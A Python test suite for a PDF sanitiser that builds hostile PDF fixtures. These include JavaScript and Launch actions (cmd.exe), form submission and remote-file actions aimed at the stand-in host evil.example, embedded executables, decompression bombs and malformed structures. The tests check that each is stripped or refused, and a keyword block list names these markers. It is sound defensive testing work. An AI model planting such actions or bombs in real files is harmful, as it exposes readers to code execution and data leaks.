"""A PDF is written anew: its pages look as they did, and nothing that does anything comes along."""

import io
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfReader
from pypdf.generic import IndirectObject, StreamObject

from portal.files import pdf as cleaner
from portal.files.pdf import Unusable, clean
from portal.files.values import REASONS
from portal.papers.typesetting import pdf as typeset
from portal.papers.values import Heading, Paper, Table, Text
from tests.support.pdf import read_pdf
from tests.support.pdfs import WORDS, bomb, locked, page_saying, pdf, picture, stream, with_pages, words_of, written
from tests.support.photos import photo

SCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
ACTIONS = {
    "script": SCRIPT,
    "launch": b"<< /S /Launch /F (cmd.exe) >>",
    "address": b"<< /S /URI /URI (https://evil.example) >>",
    "form that is sent": b"<< /S /SubmitForm /F (https://evil.example) >>",
    "another file": b"<< /S /GoToR /F (//evil.example/share) /D [0 /Fit] >>",
    "a name": b"<< /S /Named /N /Print >>",
    "chain": b"<< /S /GoTo /D [3 0 R /Fit] /Next " + SCRIPT + b" >>",
}
EVIL = tuple(
    b"JavaScript /JS /Launch /URI /SubmitForm /GoTo /OpenAction /AA /Names evil /EmbeddedFile /Filespec /AcroForm /XFA"
    b" /Metadata /Author /Outlines <script".split()
)


def unpacked(data: bytes) -> bytes:
    """All bytes of a PDF, and what is packed in it."""
    inside = [data]
    reader = PdfReader(io.BytesIO(data))
    for number in range(1, len(reader.xref[0]) + 1):
        found = reader.get_object(number)
        if isinstance(found, StreamObject):
            inside.append(found.get_data())
    return b"\n".join(inside)


def harmless(data: bytes) -> bytes:
    """The clean file, in which no trace of anything that acts is left, and all words are."""
    cleaned = clean(data)
    assert WORDS in words_of(cleaned)
    everything = unpacked(cleaned)
    assert [each for each in EVIL if each in everything] == []
    return cleaned


@pytest.mark.parametrize("action", ACTIONS.values(), ids=ACTIONS)
@pytest.mark.parametrize(
    "where", ["when it opens", "when a page opens", "by name", "on a link", "on a field", "in a bookmark", "in a font"]
)
def test_no_action_is_carried_over_wherever_it_was(action: bytes, where: str) -> None:
    held = {
        "when it opens": {"catalogue": b"/OpenAction 6 0 R /AA << /WC 6 0 R >>"},
        "when a page opens": {"page": b"/AA << /O 6 0 R /C 6 0 R >>"},
        "by name": {"catalogue": b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"},
        "on a link": {"page": b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A 6 0 R >>]"},
        "on a field": {
            "catalogue": b"/AcroForm << /Fields [7 0 R] >>",
            "page": b"/Annots [<< /Subtype /Widget /FT /Btn /Rect [0 0 9 9] /A 6 0 R /AA << /E 6 0 R >> >>]",
        },
        "in a bookmark": {"catalogue": b"/Outlines << /First << /Title (x) /A 6 0 R >> >>"},
        "in a font": {"resources": b"/ExtGState << /G << /Type /ExtGState /Odd 6 0 R /Odder [ 6 0 R ] >> >>"},
    }[where]
    harmless(pdf(WORDS, action, **held))


def test_attached_files_and_notes_of_who_wrote_it_stay_behind() -> None:
    attached = stream(b"MZ evil", b"/Type /EmbeddedFile")
    spec = b"<< /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>"
    about = b"<< /Author (evil twin) /Title (evil) >>"
    notes = stream(b"<x:xmpmeta>evil</x:xmpmeta>", b"/Type /Metadata /Subtype /XML")
    harmless(
        pdf(
            *(WORDS, attached, spec, about, notes),
            catalogue=b"/Names << /EmbeddedFiles << /Names [(evil.exe) 7 0 R] >> >> /AF [7 0 R] /Metadata 9 0 R",
            page=b"/Metadata 9 0 R /PieceInfo << /evil 7 0 R >> /Annots [<< /Subtype /FileAttachment /FS 7 0 R"
            b" /Rect [0 0 9 9] /AP << /N 6 0 R >> >>]",
            trailer=b"/Info 8 0 R ",
        )
    )


def test_what_stands_before_between_and_after_its_objects_stays_behind() -> None:
    harmless(pdf() + b"<script>evil</script>\n" + pdf()[-200:])


def test_stream_whose_content_is_another_file_is_empty() -> None:
    elsewhere = stream(b"", b"/F (//evil.example/share) /FFilter /FlateDecode")
    harmless(pdf(WORDS, elsewhere, resources=b"/XObject << /P 6 0 R >>"))


def test_postscript_and_forms_of_other_files_stay_behind() -> None:
    postscript = stream(b"(evil) run", b"/Type /XObject /Subtype /PS")
    other = stream(b"", b"/Subtype /Form /BBox [0 0 9 9] /Ref << /F (evil.pdf) /Page 0 >>")
    harmless(pdf(WORDS, postscript, other, resources=b"/XObject << /P 6 0 R /O 7 0 R >>"))


def test_what_was_filled_in_ticked_and_signed_stays_to_be_seen_and_does_nothing() -> None:
    def looks(words: bytes) -> bytes:
        says = b"/Subtype /Form /BBox [0 0 200 20] /Resources << /Font << /F 5 0 R >> >>"
        return stream(b"BT /F 12 Tf (" + words + b") Tj ET", says)

    field = b"<< /Subtype /Widget /FT /Tx /T (a) /V (Ada) /Rect [0 0 9 9] /AP << /N 6 0 R >> /A 9 0 R /Parent 9 0 R >>"
    tick = b"<< /Subtype /Widget /FT /Btn /AS /Yes /Rect [0 0 9 9] /AP << /N << /Yes 7 0 R /Off 8 0 R >> >> >>"
    hidden = b"<< /Subtype /Widget /F 2 /Rect [0 0 9 9] /AP << /N 8 0 R >> >>"
    form = b"/AcroForm << /Fields [] /NeedAppearances true >>"
    sent = (WORDS, looks(b"Ada Example"), looks(b"ticked"), looks(b"not to be seen"), SCRIPT)
    cleaned = harmless(pdf(*sent, catalogue=form, page=b"/Annots [" + field + tick + hidden + b"]"))
    (page,) = PdfReader(io.BytesIO(cleaned)).pages
    stamps = [each.get_object() for each in page["/Annots"]]  # type: ignore[attr-defined]  # an array, by the standard
    assert [each["/AP"]["/N"].get_data()[13:-7] for each in stamps] == [b"Ada Example", b"ticked"]
    assert {each["/Subtype"] for each in stamps} == {"/Stamp"}
    assert {frozenset(each) for each in stamps} == {frozenset({"/Type", "/Subtype", "/Rect", "/F", "/AP"})}


@pytest.mark.parametrize(
    "broken",
    [
        pdf(catalogue=b"/NeedsRendering true"),
        pdf(
            catalogue=b"/AcroForm << /NeedAppearances true >>",
            page=b"/Annots [<< /Subtype /Widget /V (Ada) /Rect [0 0 9 9] >>]",
        ),
    ],
    ids=["drawn by a program", "filled in and never drawn"],
)
def test_form_that_would_come_out_empty_is_refused(broken: bytes) -> None:
    with pytest.raises(Unusable, match="broken_pdf"):
        clean(broken)


def test_form_that_nobody_filled_in_is_taken() -> None:
    empty = b"<< /Subtype /Widget /V () /Rect [0 0 9 9] >> << /Subtype /Widget /V /Off /Rect [0 0 9 9] >>"
    harmless(pdf(catalogue=b"/AcroForm << /NeedAppearances true >>", page=b"/Annots [" + empty + b"]"))


def test_pictures_fonts_and_what_pages_inherit_look_as_they_did() -> None:
    grey = picture(2, 2, zlib.compress(bytes(range(4))))
    jpeg = picture(640, 480, photo(), b"/DCTDecode")
    state = b"<< /Type /ExtGState /SMask << /Type /Mask /S /Luminosity /G 9 0 R >> >>"
    group = stream(b"", b"/Subtype /Form /BBox [0 0 9 9] /Group << /S /Transparency /CS /DeviceGray >>")
    drawn = b"/XObject << /A 6 0 R /JS 7 0 R >> /ExtGState << /S 8 0 R >> /ColorSpace << /S /DeviceGray >>"
    before = pdf(WORDS, grey, jpeg, state, group, resources=drawn, page=b"/Rotate 90 /Group << /S /Transparency >>")
    (was,), (is_now,) = (PdfReader(io.BytesIO(each)).pages for each in (before, clean(before)))
    assert (is_now.mediabox, is_now.rotation) == (was.mediabox, 90)
    assert is_now.get_contents().get_data() == was.get_contents().get_data()  # type: ignore[union-attr]  # it has some
    for name in ("/A", "/JS"):
        old, new = (each["/Resources"]["/XObject"][name] for each in (was, is_now))  # type: ignore[index]  # as above
        assert (new._data, new["/Filter"], new["/Width"]) == (old._data, old["/Filter"], old["/Width"])
    resources = is_now["/Resources"]
    assert resources["/ExtGState"]["/S"]["/SMask"]["/G"]["/Group"]["/S"] == "/Transparency"  # type: ignore[index]
    assert resources["/ColorSpace"]["/S"] == "/DeviceGray"  # type: ignore[index]  # as above


def test_headings_tables_and_language_stay_for_who_has_it_read_out() -> None:
    table = Table("Parts", ["Part", "Amount"], [["Borough", "£900"]], numeric=(1,))
    sent = typeset(Paper("Your bill", (Heading("Amounts"), Text("In words."), table)))
    before, after = read_pdf(sent), read_pdf(clean(sent))
    assert (after.tags, after.scopes, after.language) == (before.tags, before.scopes, "en-GB")
    assert (after.marked, after.text, after.embedded) == (True, before.text, True)
    assert len(after.tags) > 10


def test_tags_carry_nothing_else_along() -> None:
    tree = b"<< /Type /StructTreeRoot /K 7 0 R /AF [6 0 R] /RoleMap << /Evil 6 0 R >> >>"
    link = b"<< /Type /OBJR /Obj 6 0 R >>"
    tag = b"<< /Type /StructElem /S /P /P 8 0 R /Pg 3 0 R /K [0 " + link + b" 7 0 R] /A 6 0 R /AA 6 0 R /Alt (Hello) >>"
    cleaned = harmless(pdf(WORDS, SCRIPT, tag, tree, catalogue=b"/StructTreeRoot 8 0 R", page=b"/StructParents 0"))
    root = PdfReader(io.BytesIO(cleaned)).root_object
    kept = root["/StructTreeRoot"]["/K"]  # type: ignore[index]  # a dictionary, by the standard
    assert (kept["/Alt"], kept["/Pg"]["/Type"]) == ("Hello", "/Page")
    assert [each for each in kept["/K"] if not isinstance(each, IndirectObject)] == [0]


def test_what_pages_share_is_in_the_file_once() -> None:
    assert len(clean(with_pages(100))) < 3 * len(with_pages(100))
    assert len(PdfReader(io.BytesIO(clean(with_pages(100)))).pages) == 100


def test_cleaning_again_changes_nothing_more() -> None:
    once = clean(pdf())
    assert clean(once) == once


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-128", "AES-256"])
def test_file_that_opens_without_a_password_comes_out_open(algorithm: str) -> None:
    harmless(locked("", algorithm))
    with pytest.raises(Unusable, match="locked"):
        clean(locked("secret", algorithm))


NESTED = b"[" * 20_000 + b"]" * 20_000
LOOP = written([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 /MediaBox [0 0 9 9] >>"])
FORM = b"/XObject << /P 6 0 R >>"
REFUSED = {
    "nothing": (b"%PDF-1.7\n%%EOF\n", "broken_pdf"),
    "text": (b"%PDF-1.7\nhello\n%%EOF\n", "broken_pdf"),
    "no pages": (written([b"<< /Type /Catalog >>"]), "broken_pdf"),
    "cut off": (pdf()[:300], "broken_pdf"),
    "pages in a ring": (LOOP, "broken_pdf"),
    "deep": (pdf(page=b"/Group " + NESTED), "broken_pdf"),
    "two words read as one": (pdf(page=b"/Group << /CS [/Indexed /DeviceRGB\x001] >>"), "broken_pdf"),
    "301 pages": (with_pages(301), "too_many_pages"),
    "200 megapixels": (
        pdf(WORDS, picture(20_000, 10_000, bomb(1)), resources=b"/XObject << /P 6 0 R >>"),
        "too_many_pixels_inside",
    ),
    "bomb in a picture": (pdf(WORDS, picture(9, 9, bomb(601)), resources=b"/XObject << /P 6 0 R >>"), "unpacks"),
    "bomb in the words of a page": (
        pdf(WORDS, stream(bomb(200), b"/Type /XObject /Subtype /Form /Filter /FlateDecode"), resources=FORM),
        "unpacks",
    ),
    "bomb in bombs": (
        pdf(
            WORDS,
            picture(9, 9, bomb(200, 2), b"[/FlateDecode /FlateDecode]"),
            resources=b"/XObject << /P 6 0 R >>",
        ),
        "unpacks",
    ),
}


@pytest.mark.parametrize(("data", "reason"), REFUSED.values(), ids=REFUSED)
def test_what_is_no_document_is_refused_with_its_reason(data: bytes, reason: str) -> None:
    with pytest.raises(Unusable, match=f"^{reason}$"):
        clean(data)
    assert reason in REASONS


def test_many_streams_are_measured_together(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(cleaner, "MOST_UNPACKED", 3_000_000)
    two = pdf(WORDS, picture(9, 9, bomb(1)), picture(8, 8, bomb(1)), resources=b"/XObject << /P 6 0 R /Q 7 0 R >>")
    clean(two)
    monkeypatch.setattr(cleaner, "MOST_UNPACKED", 2_000_000)
    with pytest.raises(Unusable, match="unpacks"):
        clean(two)


def test_file_may_unpack_to_more_the_larger_it_is() -> None:
    held, padded = bomb(150), bytes(1_600_000)
    with pytest.raises(Unusable, match="unpacks"):
        clean(pdf(WORDS, picture(9, 9, held), resources=FORM))
    clean(pdf(WORDS, picture(9, 9, held), stream(padded), resources=FORM))


def test_large_white_picture_in_a_small_file_is_taken() -> None:
    clean(pdf(WORDS, picture(9_000, 9_000, bomb(81)), resources=FORM))


def test_picture_that_says_more_than_its_page_does_is_measured_by_what_it_says(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(cleaner, "MOST_PIXELS", 100_000)
    with pytest.raises(Unusable, match="too_many_pixels_inside"):
        clean(pdf(WORDS, picture(9, 9, photo(), b"/DCTDecode"), resources=b"/XObject << /P 6 0 R >>"))


def test_more_objects_than_a_document_has_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(cleaner, "MOST_OBJECTS", 50)
    many = b" ".join(b"<< /Odd %d >>" % number for number in range(60))
    with pytest.raises(Unusable, match="unpacks"):
        clean(pdf(page=b"/Group << /Odd [" + many + b"] >>"))


SOUND = pdf(WORDS, SCRIPT, picture(2, 2, zlib.compress(bytes(4))), catalogue=b"/OpenAction 6 0 R")


@settings(max_examples=60, deadline=None)
@given(at=st.integers(0, len(SOUND) - 1), with_=st.binary(min_size=1, max_size=12), cut=st.integers(0, 40))
def test_damaged_file_is_refused_or_comes_out_clean(at: int, with_: bytes, cut: int) -> None:
    reason = ""
    try:
        cleaned = clean(SOUND[:at] + with_ + SOUND[at + cut :])
    except Unusable as refused:
        reason, cleaned = str(refused), b""
    assert reason in {"", *REASONS}
    assert b"app.alert" not in cleaned
    assert b"/S /JavaScript" not in cleaned  # as the writer puts it: the word alone, out of its place, does nothing


def test_page_content_in_parts_is_carried_over_whole() -> None:
    parts = written(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 5 0 R] /Resources 6 0 R >>",
            page_saying(WORDS),
            page_saying("and the second part"),
            b"<< /Font 7 0 R >>",
            b"<< /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>",
        ]
    )
    assert "and the second part" in words_of(harmless(parts))
